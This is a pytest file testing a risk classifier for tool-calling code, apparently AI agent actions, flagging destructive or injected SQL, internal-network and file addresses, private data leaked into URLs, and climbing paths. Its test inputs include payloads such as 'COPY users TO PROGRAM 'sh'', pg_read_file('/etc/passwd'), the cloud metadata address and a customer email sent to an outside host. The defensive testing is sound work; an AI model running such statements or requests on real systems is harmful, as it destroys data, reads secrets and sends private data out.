"""What a tool is given can make even a reading tool risky."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from workbench.records import Risk

Rules = Callable[[str], dict[str, Risk]]


def _list(argument: str) -> str:
    return f"from servers.demo import list_orders\nawait list_orders({argument})"


@pytest.mark.parametrize(
    "statement",
    [
        "delete from orders",
        "select 1; drop table users",
        "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
        "/* harmless */ UPDATE users SET admin = true",
        "EXPLAIN ANALYZE DELETE FROM users",
        "COPY users TO PROGRAM 'sh'",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT * FROM users INTO OUTFILE '/tmp/x'",
    ],
)
@pytest.mark.parametrize("key", ["sql", "query"])
def test_a_statement_that_changes_is_high(statement: str, key: str, rules: Rules) -> None:
    assert rules(_list(f'{key}="{statement}"'))["tool.sql"] is Risk.HIGH


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT deleted, updated_at FROM orders WHERE action = 'drop'",
        "WITH recent AS (SELECT * FROM orders) SELECT replace(name, 'a', 'b') FROM recent",
        "EXPLAIN SELECT 1",
    ],
)
def test_a_statement_that_reads_is_not(statement: str, rules: Rules) -> None:
    assert "tool.sql" not in rules(_list(f'sql="{statement}"'))


@pytest.mark.parametrize("words", ["update on the launch", "delete account", "insert coin", "create index cards"])
def test_words_to_search_for_are_no_statement(words: str, rules: Rules) -> None:
    assert "tool.sql" not in rules(_list(f"query={words!r}"))


@pytest.mark.parametrize(
    "address",
    [
        "http://169.254.169.254/latest/meta-data",
        "http://localhost:8080/admin",
        "http://user@10.0.0.5/",
        "http://[::1]/",
        "http://2130706433/",
        "file:///etc/passwd",
    ],
)
def test_an_address_inside_the_network_is_high(address: str, rules: Rules) -> None:
    assert rules(f"from servers.web import fetch_page\nawait fetch_page(url={address!r})")["tool.address"] is Risk.HIGH


@pytest.mark.parametrize("address", ["https://example.org/localhost", "https://docs.example/10.0/", "http://11.2.3.4/"])
def test_an_address_outside_is_only_read(address: str, rules: Rules) -> None:
    assert "tool.address" not in rules(f"from servers.web import fetch_page\nawait fetch_page(url={address!r})")


def test_private_data_inside_an_address_goes_out_with_it(rules: Rules) -> None:
    code = (
        "from servers.demo import get_customer\nfrom servers.web import fetch_page\n"
        "c = await get_customer(id=1)\nawait fetch_page(url=f\"https://x.example/{c['mail']}\")"
    )
    assert rules(code)["flow.private"] is Risk.HIGH


def test_following_a_link_out_of_private_data_tells_its_host_which_one_was_read(rules: Rules) -> None:
    code = (
        "from servers.demo import get_customer\nfrom servers.web import fetch_page\n"
        "c = await get_customer(id=1)\nawait fetch_page(url=c['link'])"
    )
    assert rules(code)["flow.private"] is Risk.HIGH


def test_a_path_that_climbs_is_medium(rules: Rules) -> None:
    assert rules(_list("path='../../notes.md'"))["tool.path"] is Risk.MEDIUM
